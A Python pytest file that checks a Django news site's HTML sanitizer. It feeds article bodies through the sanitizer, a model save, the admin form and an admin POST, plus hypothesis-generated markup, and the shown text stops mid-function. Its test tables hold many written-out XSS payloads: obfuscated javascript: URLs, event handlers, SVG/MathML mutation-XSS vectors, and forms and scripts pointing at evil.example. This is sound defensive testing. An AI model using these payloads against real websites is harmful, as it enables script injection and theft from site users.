"""Hostile body HTML, checked where it can enter: the sanitizer, the model's save and the admin.

Each case in the tables is run at every level: sanitize_html() directly, an
Article saved through the model (then read back from the database), the admin
form's clean_body, and a real POST to the admin's add view by an editor. A
hypothesis test then throws generated markup at the sanitizer and checks the
properties that must hold whatever comes in.
"""

from __future__ import annotations

import re
import string
import unicodedata
from dataclasses import dataclass
from urllib.parse import urlsplit

import lxml.html
import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from articles.admin.forms import ArticleAdminForm
from articles.content.body import prepare_body
from articles.content.sanitizer import BodyTooLarge, sanitize_html
from articles.importing.cleanup import clean_legacy_html
from articles.models import Article
from tests.factories import make_article

# Written out here rather than imported, so the tests check the sanitizer against
# the policy instead of against itself.
ALLOWED_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "blockquote", "pre", "code",
    "a", "em", "strong", "b", "i", "s", "sub", "sup", "abbr", "cite", "q",
    "figure", "figcaption", "img", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "iframe",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
# A body's ids are namespaced (content/anchors.py), so none can be one of the page's own.
BODY_ID = re.compile(r"body-[\w.:-]{1,100}")
ID_TAGS = {"h2", "h3", "h4", "h5", "h6", "li", "a", "sup", "dt", "p", "table", "figure", "ol", "ul", "blockquote"}
IFRAME_HOSTS = {"www.youtube.com", "www.youtube-nocookie.com", "player.vimeo.com"}
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "srcset", "poster", "background", "data", "xlink:href"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")
RAW_DANGEROUS_TAG = re.compile(r"<\s*/?\s*(script|style|svg|math|iframe\s[^>]*srcdoc)", re.IGNORECASE)

LINK_REL = ' rel="noopener noreferrer"'
SANDBOX = ' sandbox="allow-scripts allow-same-origin allow-presentation"'
YOUTUBE = "https://www.youtube.com/embed/dQw4w9WgXcQ"


def effective_scheme(value: str) -> str | None:
    """The scheme a browser would see: whitespace, control and format characters out, lower case."""
    compact = "".join(ch for ch in value if not ch.isspace() and unicodedata.category(ch)[0] not in "CZ").lower()
    match = SCHEME.match(compact)
    return match.group(1) if match else None


def elements(html: str) -> list:
    """Every element of an HTML fragment, parsed by lxml (a parser other than the sanitizer's)."""
    if not html.strip():
        return []
    found = []
    for fragment in lxml.html.fragments_fromstring(html):
        if isinstance(fragment, str):
            continue
        found.extend(fragment.iter())
    return found


def assert_safe(html: str) -> None:
    """What must hold for any stored body, whatever went in."""
    assert "\x00" not in html
    assert not RAW_DANGEROUS_TAG.search(html), html
    for element in elements(html):
        assert isinstance(element.tag, str), f"comment or processing instruction survived: {html!r}"
        tag = element.tag.lower()
        assert tag in ALLOWED_TAGS, f"<{tag}> survived: {html!r}"
        for name, value in element.attrib.items():
            name = name.lower()
            assert not name.startswith("on"), f"{name}= survived on <{tag}>: {html!r}"
            assert name != "style", f"style= survived on <{tag}>: {html!r}"
            assert name not in {"srcdoc", "formaction", "action", "srcset"}, f"{name}= survived: {html!r}"
            if name == "id":
                assert tag in ID_TAGS and BODY_ID.fullmatch(value), f"id={value!r} survived on <{tag}>: {html!r}"
            if name in URL_ATTRIBUTES:
                scheme = effective_scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, f"{name}={value!r} survived: {html!r}"
        if tag == "iframe":
            src = urlsplit(element.get("src", ""))
            assert src.scheme == "https" and src.hostname in IFRAME_HOSTS, f"iframe survived: {html!r}"
            assert src.username is None and src.port is None, f"iframe survived: {html!r}"
            assert element.get("sandbox"), f"iframe without sandbox: {html!r}"


@dataclass(frozen=True)
class Case:
    html: str
    sanitized: str  # what sanitize_html returns
    stored: str | None = None  # what the model stores, when prepare_body changes it further
    gone: tuple[str, ...] = ()  # substrings (any case) that must not be in the result
    kept: tuple[str, ...] = ()  # substrings that must be in the result

    @property
    def expected_stored(self) -> str:
        return self.sanitized if self.stored is None else self.stored


def js_link(href: str) -> Case:
    return Case(
        f'<p><a href="{href}">click</a></p>',
        f"<p><a{LINK_REL}>click</a></p>",
        gone=("href", "script", "alert"),
        kept=(">click</a>",),
    )


HOSTILE = [
    pytest.param(
        Case("<p>Hi<script>alert(1)</script></p>", "<p>Hi</p>", gone=("script", "alert"), kept=("Hi",)),
        id="script",
    ),
    pytest.param(
        Case("<p>a</p><SCRIPT SRC=//evil.example/x.js></SCRIPT><p>b</p>", "<p>a</p><p>b</p>", gone=("script", "evil")),
        id="script-upper-case-src",
    ),
    pytest.param(
        Case(
            "<p>x</p><scr<script>ipt>alert(1)</script>",
            "<p>x</p>ipt&gt;alert(1)",
            gone=("<script", "<scr"),
        ),
        id="script-split-in-two",
    ),
    pytest.param(
        Case(
            "<img src=x onerror=alert(1)>",
            '<img src="x">',
            stored='<figure class="image"><img src="x" alt=""></figure>',
            gone=("onerror", "alert"),
        ),
        id="img-onerror",
    ),
    pytest.param(
        Case('<p onclick="steal()">tap</p>', "<p>tap</p>", gone=("onclick", "steal"), kept=("tap",)),
        id="onclick",
    ),
    pytest.param(
        Case('<body onload="alert(1)"><p>page</p></body>', "<p>page</p>", gone=("onload", "alert")),
        id="body-onload",
    ),
    pytest.param(
        Case(
            '<a href="https://example.com/" OnMouseOver="alert(1)">x</a>',
            f'<a href="https://example.com/"{LINK_REL}>x</a>',
            gone=("mouseover", "alert"),
        ),
        id="onmouseover-mixed-case",
    ),
    pytest.param(js_link("javascript:alert(1)"), id="javascript-plain"),
    pytest.param(js_link("JaVaScRiPt:alert(1)"), id="javascript-mixed-case"),
    pytest.param(js_link("&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"), id="js-decimal"),
    pytest.param(js_link("&#0000106&#0000097vascript:alert(1)"), id="js-decimal-padded-no-semicolon"),
    pytest.param(js_link("&#x6A;&#x61;vascript&#x3A;alert(1)"), id="js-hex-entities"),
    pytest.param(js_link("javascript&colon;alert(1)"), id="js-named-colon"),
    pytest.param(js_link("jav&Tab;ascript:alert(1)"), id="js-named-tab"),
    pytest.param(js_link("jav&NewLine;ascript:alert(1)"), id="js-named-newline"),
    pytest.param(js_link("java\tscript:alert(1)"), id="js-tab-in-scheme"),
    pytest.param(js_link("java\nscript:alert(1)"), id="js-newline-in-scheme"),
    pytest.param(js_link("java&#x0A;script:alert(1)"), id="js-entity-newline-in-scheme"),
    pytest.param(js_link("   javascript:alert(1)"), id="js-leading-spaces"),
    pytest.param(js_link("\x01\x02\x1fjavascript:alert(1)"), id="js-leading-control-chars"),
    pytest.param(js_link("&#1;javascript:alert(1)"), id="js-leading-control-entity"),
    pytest.param(js_link("java\u200bscript:alert(1)"), id="js-zero-width-space"),
    pytest.param(js_link("java\u00adscript:alert(1)"), id="js-soft-hyphen"),
    pytest.param(js_link("\ufeffjavascript:alert(1)"), id="js-leading-bom"),
    pytest.param(js_link("java&#8203;script:alert(1)"), id="js-zero-width-entity"),
    pytest.param(js_link("java&shy;script:alert(1)"), id="js-soft-hyphen-named"),
    pytest.param(js_link("vbscript:msgbox(1)"), id="vbscript"),
    pytest.param(js_link("VBScript&#58;msgbox(1)"), id="vbscript-entity"),
    pytest.param(js_link("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), id="data-in-href"),
    pytest.param(js_link("DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"), id="data-in-href-upper"),
    pytest.param(
        Case(
            '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="d">',
            '<img alt="d">',
            stored="",  # an image without a src is dropped
            gone=("data:", "base64"),
        ),
        id="data-in-img-src",
    ),
    pytest.param(
        Case(
            '<img src="javascript:alert(1)" alt="j">',
            '<img alt="j">',
            stored="",
            gone=("javascript", "alert"),
        ),
        id="javascript-in-img-src",
    ),
    pytest.param(
        Case(
            '<blockquote cite="javascript:alert(1)"><p>q</p></blockquote>',
            "<blockquote><p>q</p></blockquote>",
            gone=("javascript", "cite="),
        ),
        id="javascript-in-cite",
    ),
    pytest.param(
        Case(
            '<p style="background:url(javascript:alert(1))">s</p>',
            "<p>s</p>",
            gone=("style", "javascript"),
        ),
        id="inline-style",
    ),
    pytest.param(
        Case(
            "<style>body{display:none}</style><p>after</p>",
            "<p>after</p>",
            gone=("style", "display"),
        ),
        id="style-block",
    ),
    pytest.param(
        Case("<svg onload=alert(1)><circle r=1 /></svg><p>after</p>", "<p>after</p>", gone=("svg", "onload", "circle")),
        id="svg-onload",
    ),
    pytest.param(
        # A <p> ends foreign content in HTML5 parsing: "inside" is an HTML paragraph to a browser too.
        Case("<svg onload=alert(1)><p>inside</p></svg>", "<p>inside</p>", gone=("svg", "onload", "alert")),
        id="svg-breakout-paragraph",
    ),
    pytest.param(
        Case(
            '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg><p>ok</p>',
            "<p>ok</p>",
            gone=("svg", "xlink", "javascript"),
        ),
        id="svg-xlink-href",
    ),
    pytest.param(
        Case(
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "",
            gone=("math", "onerror", "alert", "<img"),
        ),
        id="math-mxss-mglyph-style",
    ),
    pytest.param(
        Case(
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "",
            gone=("math", "form", "onerror", "alert"),
        ),
        id="math-mxss-form-nesting",
    ),
    pytest.param(
        Case(
            '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
            '<img src="x">"&gt;',
            stored='<figure class="image"><img src="x" alt=""></figure>"&gt;',
            gone=("noscript", "onerror", "alert"),
        ),
        id="noscript-breakout",
    ),
    pytest.param(
        Case("<template><img src=x onerror=alert(1)></template><p>t</p>", "<p>t</p>", gone=("template", "onerror")),
        id="template",
    ),
    pytest.param(
        Case(
            '<form action="https://evil.example/"><input name="pw" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
            "Go",
            gone=("form", "input", "action", "javascript"),
        ),
        id="form-input-button",
    ),
    pytest.param(
        Case(
            '<object data="https://evil.example/x.swf"><param name="a" value="b"></object><embed src="https://evil.example/x.swf"><p>k</p>',
            "<p>k</p>",
            gone=("object", "embed", "evil", "param"),
        ),
        id="object-embed",
    ),
    pytest.param(
        Case("<p>x</p><iframe src=https://evil.example/></iframe>", "<p>x</p>", gone=("iframe", "evil")),
        id="iframe-unknown-host",
    ),
    pytest.param(
        Case(f'<iframe src="{YOUTUBE.replace("https", "http")}"></iframe><p>x</p>', "<p>x</p>", gone=("iframe",)),
        id="iframe-http-scheme",
    ),
    pytest.param(
        Case(
            '<iframe src="https://www.youtube.com@evil.example/"></iframe><p>x</p>', "<p>x</p>", gone=("iframe", "evil")
        ),
        id="iframe-userinfo-trick",
    ),
    pytest.param(
        Case(
            '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe><p>x</p>',
            "<p>x</p>",
            gone=("iframe", "evil"),
        ),
        id="iframe-lookalike-host",
    ),
    pytest.param(
        Case('<iframe src="//www.youtube.com/embed/x"></iframe><p>x</p>', "<p>x</p>", gone=("iframe",)),
        id="iframe-scheme-relative",
    ),
    pytest.param(
        Case('<iframe src="https://www.youtube.com:8443/embed/x"></iframe><p>x</p>', "<p>x</p>", gone=("iframe",)),
        id="iframe-port",
    ),
    pytest.param(
        Case('<iframe src="javascript:alert(1)"></iframe><p>x</p>', "<p>x</p>", gone=("iframe", "javascript")),
        id="iframe-javascript",
    ),
    pytest.param(
        Case(
            f'<iframe src="{YOUTUBE}" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" onload="alert(2)"></iframe>',
            f'<iframe src="{YOUTUBE}"{SANDBOX}></iframe>',
            gone=("srcdoc", "onload", "alert"),
        ),
        id="iframe-allowed-host-srcdoc-onload",
    ),
    pytest.param(
        Case(
            "<iframe></style><script>alert(1)</script><img src=x onerror=alert(2)></iframe><p>x</p>",
            "<p>x</p>",
            gone=("iframe", "script", "onerror", "alert"),
        ),
        id="iframe-without-src-hiding-markup",
    ),
    pytest.param(
        Case(
            f'<iframe src="{YOUTUBE}" title="a>b"><img src=x onerror=alert(1)></iframe>',
            f'<iframe src="{YOUTUBE}" title="a&gt;b"{SANDBOX}></iframe>',
            gone=("<img", "onerror", "alert"),
        ),
        id="iframe-allowed-host-hiding-markup",
    ),
    pytest.param(
        Case(
            "<p>nu\x00ll</p><scr\x00ipt>alert(1)</scr\x00ipt>",
            "<p>null</p>",
            gone=("\x00", "script", "alert"),
        ),
        id="nul-characters",
    ),
    pytest.param(
        Case(
            "<p>a\x01b\x0cc\x1fd</p><p><img>e</p>",
            "<p>ab cd</p><p><img>e</p>",
            stored="<p>ab cd</p><p>e</p>",  # lxml refused the control characters: a ValueError, a 500 in the admin
            gone=("\x01", "\x0c", "\x1f"),
        ),
        id="control-characters",
    ),
    pytest.param(
        Case(
            "<p>&#1;x&#xFFFE;&#x0B;y</p><p><img>z</p>",
            "<p>xy</p><p><img>z</p>",
            stored="<p>xy</p><p>z</p>",
            gone=("\x01", "\ufffe", "\x0b"),
        ),
        id="control-character-references",
    ),
    pytest.param(
        Case("<h2><c><h2>x", "<h2></h2><h2>x</h2>", gone=("<c>",)),
        id="mis-nested-headings-stable",
    ),
    pytest.param(
        Case("<p>a<!-- <img src=x onerror=alert(1)> -->b</p>", "<p>ab</p>", gone=("<!--", "onerror")),
        id="comment",
    ),
    pytest.param(
        Case(
            '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="https://evil.example/x.css"><p>m</p>',
            "<p>m</p>",
            gone=("base", "meta", "link", "evil"),
        ),
        id="base-meta-link",
    ),
    pytest.param(
        Case(
            '<figure class="image evil-class" style="x" onclick="y()"><img src="/media/a.jpg" alt="A"><figcaption onmouseover="z()">C</figcaption></figure>',
            '<figure class="image"><img src="/media/a.jpg" alt="A"><figcaption>C</figcaption></figure>',
            gone=("evil-class", "style", "onclick", "onmouseover"),
        ),
        id="figure-with-handlers-and-unknown-class",
    ),
    pytest.param(
        Case(
            '<h2 id="main">A</h2><p id="search">b</p><a id="content" href="#x">c</a>',
            f'<h2>A</h2><p>b</p><a href="#x"{LINK_REL}>c</a>',
            gone=("main", "search", "content"),
        ),
        id="page-ids-not-namespaced",
    ),
    pytest.param(
        Case(
            '<dd id="body-x">a</dd><div id="body-y">b</div><h2 id="body-">c</h2><p id="body-a b">d</p>'
            f'<p id="body-{"x" * 101}">e</p><p id="xbody-z">f</p>',
            "<dd>a</dd>b<h2>c</h2><p>d</p><p>e</p><p>f</p>",
            gone=("id=",),
        ),
        id="ids-on-other-tags-empty-spaced-too-long-or-prefixed-late",
    ),
]


def unchanged(html: str, id: str):
    return pytest.param(html, html, id=id)


POSITIVE = [
    unchanged("<p>Hello <strong>bold</strong>, <em>italic</em> and <b>b</b> <i>i</i>.</p><p>Second.</p>", "paragraphs"),
    unchanged("<h2>Two</h2><h3>Three</h3><h4>Four</h4>", "headings"),
    unchanged('<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>', "lists"),
    pytest.param(
        '<p><a href="http://example.com/a">plain</a></p>',
        f'<p><a href="http://example.com/a"{LINK_REL}>plain</a></p>',
        id="link-http",
    ),
    pytest.param(
        '<p><a href="https://example.com/b?x=1&amp;y=2" title="T">secure</a></p>',
        f'<p><a href="https://example.com/b?x=1&amp;y=2" title="T"{LINK_REL}>secure</a></p>',
        id="link-https",
    ),
    pytest.param(
        '<p><a href="mailto:desk@example.com">mail us</a></p>',
        f'<p><a href="mailto:desk@example.com"{LINK_REL}>mail us</a></p>',
        id="link-mailto",
    ),
    pytest.param(
        '<p><a href="tel:+441234567890">call</a></p>',
        f'<p><a href="tel:+441234567890"{LINK_REL}>call</a></p>',
        id="link-tel",
    ),
    pytest.param(
        '<p><a href="/news/harbour-reopens/">related</a> and <a href="#notes">notes</a></p>',
        f'<p><a href="/news/harbour-reopens/"{LINK_REL}>related</a> and <a href="#notes"{LINK_REL}>notes</a></p>',
        id="link-relative",
    ),
    unchanged(
        '<figure class="image align-left"><img src="/media/images/a.jpg" alt="Boats">'
        "<figcaption>The harbour at dawn</figcaption></figure>",
        "figure-figcaption",
    ),
    unchanged("<blockquote><p>We will rebuild.</p></blockquote>", "blockquote"),
    unchanged("<dl><dt>Term</dt><dd>Definition</dd><dd>Another</dd></dl>", "definition-list"),
    pytest.param(
        '<h2 id="body-intro">Intro</h2><h3 id="body-über-uns">Über uns</h3><p id="body-p1">Text'
        '<sup><a href="#body-fn1" id="body-fnref1:1">[1]</a></sup></p>'
        '<ol id="body-notes"><li id="body-fn1">Note.</li></ol><dl><dt id="body-term">Term</dt><dd>D</dd></dl>'
        '<ul id="body-u"><li>x</li></ul><blockquote id="body-q"><p>q</p></blockquote>'
        '<table id="body-t"><tbody><tr><td>1</td></tr></tbody></table>',
        '<h2 id="body-intro">Intro</h2><h3 id="body-über-uns">Über uns</h3><p id="body-p1">Text'
        f'<sup><a href="#body-fn1" id="body-fnref1:1"{LINK_REL}>[1]</a></sup></p>'
        '<ol id="body-notes"><li id="body-fn1">Note.</li></ol><dl><dt id="body-term">Term</dt><dd>D</dd></dl>'
        '<ul id="body-u"><li>x</li></ul><blockquote id="body-q"><p>q</p></blockquote>'
        '<table id="body-t"><tbody><tr><td>1</td></tr></tbody></table>',
        id="namespaced-ids",
    ),
    unchanged(
        '<table><caption>Results</caption><thead><tr><th scope="col">Party</th><th scope="col">Seats</th></tr></thead>'
        '<tbody><tr><td>Red</td><td>12</td></tr><tr><td colspan="2">Total 12</td></tr></tbody></table>',
        "table",
    ),
    pytest.param(
        f'<p>Watch:</p><iframe src="{YOUTUBE}" width="560" height="315"></iframe>',
        f'<p>Watch:</p><iframe src="{YOUTUBE}" width="560" height="315"{SANDBOX}></iframe>',
        id="youtube-embed",
    ),
]


# --- level 1: the sanitizer itself -------------------------------------------------------------------------------


@pytest.mark.parametrize("case", HOSTILE)
def test_sanitizer_removes_hostile_markup(case):
    result = sanitize_html(case.html)
    assert result == case.sanitized
    assert_safe(result)
    for text in case.gone:
        assert text.lower() not in result.lower()
    for text in case.kept:
        assert text in result


@pytest.mark.parametrize(("html", "expected"), POSITIVE)
def test_sanitizer_keeps_allowed_markup(html, expected):
    assert sanitize_html(html) == expected


def test_links_get_rel_and_lose_target():
    result = sanitize_html('<a href="https://example.com/" target="_blank">x</a>')
    assert result == f'<a href="https://example.com/"{LINK_REL}>x</a>'


def test_youtube_embed_survives_with_its_size_and_a_sandbox():
    html = f'<iframe src="{YOUTUBE}" width="560" height="315" allowfullscreen title="Clip"></iframe>'
    result = sanitize_html(html)
    (iframe,) = elements(result)
    assert iframe.get("src") == YOUTUBE
    assert (iframe.get("width"), iframe.get("height"), iframe.get("title")) == ("560", "315", "Clip")
    assert iframe.get("sandbox") == "allow-scripts allow-same-origin allow-presentation"


def test_oversized_body_is_refused_before_sanitising(settings):
    settings.NEWSROOM_MAX_BODY_BYTES = 1000
    with pytest.raises(BodyTooLarge) as raised:
        sanitize_html("<p>" + "x" * 1000 + "</p>")
    assert raised.value.code == "body_too_large"
    assert "1,000 bytes" in raised.value.messages[0]


def test_body_limit_counts_utf8_bytes_not_characters(settings):
    settings.NEWSROOM_MAX_BODY_BYTES = 1000
    assert sanitize_html("<p>" + "x" * 993 + "</p>") == "<p>" + "x" * 993 + "</p>"  # exactly 1000 bytes
    with pytest.raises(BodyTooLarge):
        sanitize_html("<p>" + "é" * 600 + "</p>")  # 607 characters, 1207 bytes


# --- level 2: the model (every save passes prepare_body) ---------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("case", HOSTILE)
def test_model_stores_hostile_markup_cleaned(case):
    article = make_article(body=case.html)
    article.refresh_from_db()
    assert article.body == case.expected_stored
    assert_safe(article.body)
    for text in case.gone:
        assert text.lower() not in article.body.lower()


@pytest.mark.django_db
@pytest.mark.parametrize(("html", "expected"), POSITIVE)
def test_model_keeps_allowed_markup(html, expected):
    article = make_article(body=html)
    article.refresh_from_db()
    assert article.body == expected


@pytest.mark.django_db
def test_model_refuses_an_oversized_body(settings):
    settings.NEWSROOM_MAX_BODY_BYTES = 1000
    with pytest.raises(BodyTooLarge):
        make_article(body="<p>" + "x" * 2000 + "</p>")
    assert not Article.objects.exists()


# --- level 3: the admin form, and a real POST to the admin --------------------------------------------------------


def form_data(body: str, title: str = "Hostile") -> dict:
    return {"title": title, "slug": "", "standfirst": "", "byline": "", "body": body, "status": "draft"}


def admin_post(client, body: str, title: str = "Hostile"):
    """Submit the admin's add form the way a browser would: every field as the page fills it, then ours."""
    url = reverse("admin:articles_article_add")
    page = lxml.html.fromstring(client.get(url).content)
    (form,) = page.xpath('//form[@id="article_form"]')
    data = {**dict(form.form_values()), **form_data(body, title), "_save": "Save"}
    return client.post(url, data)


@pytest.fixture
def editor_client(client, editor):
    client.force_login(editor)
    return client


@pytest.mark.django_db
@pytest.mark.parametrize("case", HOSTILE)
def test_admin_form_cleans_hostile_markup(case):
    form = ArticleAdminForm(data=form_data(case.html))
    if "\x00" in case.html:
        # Django's form fields refuse NUL outright; refusing is as safe as removing.
        assert not form.is_valid()
        assert "body" in form.errors
        return
    assert form.is_valid(), form.errors
    assert form.cleaned_data["body"] == case.sanitized


@pytest.mark.django_db
@pytest.mark.parametrize("case", HOSTILE)
def test_admin_post_stores_hostile_markup_cleaned(editor_client, case):
    response = admin_post(editor_client, case.html)
    if "\x00" in case.html:
        assert response.status_code == 200
        assert "Null characters are not allowed" in response.content.decode()
        assert not Article.objects.exists()
        return
    assert response.status_code == 302, response.context["adminform"].form.errors if response.context else response
    article = Article.objects.get(title="Hostile")
    assert article.body == case.expected_stored
    assert_safe(article.body)


@pytest.mark.django_db
@pytest.mark.parametrize(("html", "expected"), POSITIVE)
def test_admin_post_keeps_allowed_markup(editor_client, html, expected):
    response = admin_post(editor_client, html, title="Fine")
    assert response.status_code == 302
    assert Article.objects.get(title="Fine").body == expected


@pytest.mark.django_db
def test_admin_form_reports_an_oversized_body(settings):
    settings.NEWSROOM_MAX_BODY_BYTES = 1000
    form = ArticleAdminForm(data=form_data("<p>" + "x" * 2000 + "</p>"))
    assert not form.is_valid()
    assert [error.code for error in form.errors.as_data()["body"]] == ["body_too_large"]


@pytest.mark.django_db
def test_admin_post_of_an_oversized_body_is_a_form_error_not_a_500(settings, editor_client):
    settings.NEWSROOM_MAX_BODY_BYTES = 1000
    response = admin_post(editor_client, "<p>" + "x" * 2000 + "</p>")
    assert response.status_code == 200
    assert "The body is larger than the limit of 1,000 bytes." in response.content.decode()
    assert not Article.objects.exists()


# --- properties over generated markup ------------------------------------------------------------------------------

TAGS = [
    *sorted(ALLOWED_TAGS),
    "script", "style", "svg", "math", "mtext", "mglyph", "mi", "noscript", "template", "form", "input",
    "button", "textarea", "select", "option", "object", "embed", "param", "applet", "title", "xmp",
    "noembed", "noframes", "listing", "plaintext", "base", "meta", "link", "body", "html", "head",
    "frameset", "frame", "div", "span", "foreignObject", "desc", "annotation-xml", "marquee", "video", "audio",
    "source", "details", "dialog", "SCRIPT", "ScRiPt", "iFrame",
]  # fmt: skip
ATTRIBUTES = [
    "onclick", "onerror", "onload", "onmouseover", "onfocus", "ONLOAD", "OnError", "onanimationstart",
    "style", "STYLE", "href", "HREF", "src", "cite", "srcset", "srcdoc", "action", "formaction", "xlink:href",
    "data", "poster", "background", "class", "title", "alt", "width", "height", "allowfullscreen", "sandbox",
    "target", "rel", "colspan", "scope", "start", "id", "name",
]  # fmt: skip
URL_ATTRIBUTE_NAMES = {"href", "HREF", "src", "cite", "srcset", "action", "formaction", "xlink:href", "data", "poster"}
SCHEMES = ["javascript", "vbscript", "data", "http", "https", "mailto", "tel", "file", "blob", "livescript", "jar"]
INVISIBLE = [
    " ", "\t", "\n", "\r", "\x0c", "\x0b", "\x00", "\x01", "\x08", "\x1f", "\x7f", "\x85", "\xa0",
    "\u200b", "\u200c", "\u200d", "\u200e", "\u00ad", "\ufeff", "\u2028", "\u2060", "\u180e", "\u3000",
    "&Tab;", "&NewLine;", "&#9;", "&#x0A;", "&#0;", "&#x200B;", "&shy;", "&nbsp;",
]  # fmt: skip
TAILS = [
    "alert(1)", "//www.youtube.com/embed/x", "//www.youtube.com@evil.example/", "//evil.example/x",
    "text/html;base64,PHNjcmlwdD4=", "text/html,<script>alert(1)</script>", "msgbox(1)", "desk@example.com", "",
]  # fmt: skip
RAW_TEXT = [
    "<img src=x onerror=alert(1)>", "</style><script>alert(1)</script>", "<!--", "-->", "<![CDATA[", "]]>",
    "</noscript>", "</title>", "</textarea>", "&lt;script&gt;", "&#60;", "&amp;", "&", "<", ">", '"', "'", "`",
    "javascript:alert(1)", "<svg/onload=alert(1)>", "</p>", "<p>", "</table>", "<tr>", "<td>",
]  # fmt: skip


@st.composite
def obfuscated_char(draw, ch: str) -> str:
    style = draw(st.sampled_from(["plain", "upper", "decimal", "hex", "padded", "named"]))
    if style == "upper":
        return ch.upper()
    if style == "decimal":
        return f"&#{ord(ch)};"
    if style == "hex":
        return f"&#x{ord(ch):X};"
    if style == "padded":
        return f"&#{ord(ch):07d}"  # no semicolon: browsers still decode it
    if style == "named" and ch == ":":
        return "&colon;"
    return ch


@st.composite
def url_values(draw) -> str:
    scheme = draw(st.sampled_from(SCHEMES))
    parts = [draw(st.sampled_from(INVISIBLE)) for _ in range(draw(st.integers(0, 3)))]  # leading junk
    for ch in scheme + ":":
        if draw(st.integers(0, 4)) == 0:
            parts.append(draw(st.sampled_from(INVISIBLE)))
        parts.append(draw(obfuscated_char(ch)))
    parts.append(draw(st.sampled_from(TAILS)))
    if draw(st.booleans()):
        return draw(st.sampled_from(["/local/path", "#frag", "relative.html", "https://www.youtube.com/embed/ok"]))
    return "".join(parts)


@st.composite
def attributes(draw) -> str:
    name = draw(st.sampled_from(ATTRIBUTES))
    if name in URL_ATTRIBUTE_NAMES:
        value = draw(url_values())
    elif name.lower().startswith("on"):
        value = draw(st.sampled_from(["alert(1)", "javascript:alert(1)", "&#97;lert(1)", ""]))
    elif name.lower() == "style":
        value = draw(st.sampled_from(["color:red", "background:url(javascript:alert(1))", "x:expression(alert(1))"]))
    elif name == "class":
        value = draw(st.sampled_from(["image", "align-left image", "evil", "image align-center"]))
    else:
        value = draw(st.text(alphabet=string.ascii_letters + string.digits + " <>&\"'=", max_size=8))
    quote = draw(st.sampled_from(['"', "'", ""]))
    if not quote and (not value or any(ch in value for ch in " \t\n\x0c\r\"'=<>`")):
        quote = '"'
    return f" {name}={quote}{value}{quote}"


texts = st.one_of(
    st.text(alphabet=string.ascii_letters + string.digits + " \n\t<>&;#/\"'=!-\u200b\u00ad\ufeff\x00", max_size=12),
    st.sampled_from(RAW_TEXT),
)


def element(children):
    @st.composite
    def build(draw) -> str:
        tag = draw(st.sampled_from(TAGS))
        attrs = "".join(draw(st.lists(attributes(), max_size=3)))
        inner = "".join(draw(st.lists(children, max_size=4)))
        closing = draw(st.sampled_from([f"</{tag}>", f"</{tag}>", "", f"</{tag.upper()} >"]))
        slash = draw(st.sampled_from(["", "", "/"]))
        return f"<{tag}{attrs}{slash}>{inner}{closing}"

    return build()


hostile_html = st.recursive(texts, element, max_leaves=25).map(str)
hostile_documents = st.lists(hostile_html, min_size=1, max_size=5).map("".join)


@hypothesis_settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_documents)
def test_generated_markup_comes_out_safe_and_stable(html):
    once = sanitize_html(html)
    assert_safe(once)
    assert sanitize_html(once) == once

    prepared = prepare_body(html).html
    assert_safe(prepared)
    again = prepare_body(prepared).html
    assert again == prepared
    assert_safe(again)


def test_lone_surrogates_are_removed_not_a_crash():
    assert sanitize_html("<p>a\ud800b\udfffc</p>") == "<p>abc</p>"


# --- prepare_body stays stable where lxml and the sanitizer's HTML5 parser disagree --------------------------------


def test_prepare_body_keeps_escaped_leading_text_as_text():
    html = 'Use &lt;b&gt; for bold<p><img src="/media/x.jpg"></p>'
    assert prepare_body(html).html.startswith("Use &lt;b&gt; for bold")


def test_prepare_body_twice_on_a_stray_list_item_with_an_image():
    once = prepare_body('<li><img src="/media/x.jpg"></li>').html
    assert prepare_body(once).html == once


def test_prepare_body_stable_on_block_inside_link():
    once = prepare_body("<a><figcaption><table><img src=x></table></figcaption></a>").html
    assert prepare_body(once).html == once


def test_prepare_body_puts_each_bare_image_after_its_own_block():
    # Each <p> is closed by its blockquote, so every picture is in a different block.
    html = "".join(f'<p>{n}<img src="/media/{n}.jpg"><blockquote>q</blockquote></p>' for n in range(3))
    assert prepare_body(html).html == "".join(
        f'<p>{n}</p><figure class="image"><img src="/media/{n}.jpg" alt=""></figure><blockquote>q</blockquote>'
        for n in range(3)
    )


@hypothesis_settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(url_values(), min_size=1, max_size=4))
def test_generated_urls_never_keep_a_dangerous_scheme(values):
    html = "".join(
        f'<p><a href="{v}">a</a><img src="{v}"><blockquote cite="{v}">q</blockquote><iframe src="{v}"></iframe></p>'
        for v in values
    )
    result = sanitize_html(html)
    assert_safe(result)
    assert sanitize_html(result) == result
    assert result.count("<a ") == len(values)  # links keep their text and only lose the href


# --- schemes hidden by invisible characters, on the importer's path too ----------------------------------------------

INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad"]


@pytest.mark.parametrize("character", INVISIBLE, ids=[f"U+{ord(c):04X}" for c in INVISIBLE])
def test_a_scheme_hidden_by_an_invisible_character_is_dropped_on_every_path(character):
    reference = f"&#x{ord(character):x};"
